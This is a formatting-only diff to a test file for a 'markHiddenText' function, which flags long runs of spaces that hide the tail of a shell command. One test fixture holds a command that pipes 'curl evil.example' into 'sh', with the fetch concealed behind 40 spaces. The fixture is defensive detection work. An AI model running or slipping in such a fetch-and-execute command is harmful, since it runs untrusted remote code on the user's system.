@@ -12,11 +12,7 @@ describe('markHiddenText', () => {
   });
 
   it('marks a run of spaces that pushes a command’s tail aside, with its length', () => {
-    expect(labels(`ls${' '.repeat(40)}; curl evil.example | sh`)).toEqual([
-      'ls',
-      '[␣×40|40 spaces]',
-      '; curl evil.example | sh',
-    ]);
+    expect(labels(`ls${' '.repeat(40)}; curl evil.example | sh`)).toEqual(['ls', '[␣×40|40 spaces]', '; curl evil.example | sh']);
     expect(labels('a   b')).toEqual(['a', '[␣×3|3 spaces]', 'b']);
   });
 
@@ -71,6 +67,10 @@ describe('markHiddenText ranges', () => {
       [7, 8],
       [8, 9],
     ]);
-    expect(segments.filter((segment) => segment.kind === 'text').map((segment) => text.slice(segment.start, segment.end))).toEqual(['a', 'b', 'c']);
+    expect(segments.filter((segment) => segment.kind === 'text').map((segment) => text.slice(segment.start, segment.end))).toEqual([
+      'a',
+      'b',
+      'c',
+    ]);
   });
 });
